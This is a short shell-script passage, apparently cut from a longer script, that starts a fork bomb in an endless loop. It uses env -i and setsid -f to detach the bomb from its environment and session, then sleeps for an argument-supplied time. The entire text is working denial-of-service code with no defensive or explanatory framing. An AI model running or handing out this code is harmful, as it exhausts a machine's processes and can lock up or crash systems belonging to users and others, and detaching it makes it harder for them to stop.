# The same, tied to nothing: without its environment, in a session of its own.
env -i setsid -f /bin/bash -c 'bomb() { bomb | bomb & }; while :; do bomb; done'
sleep "$1"
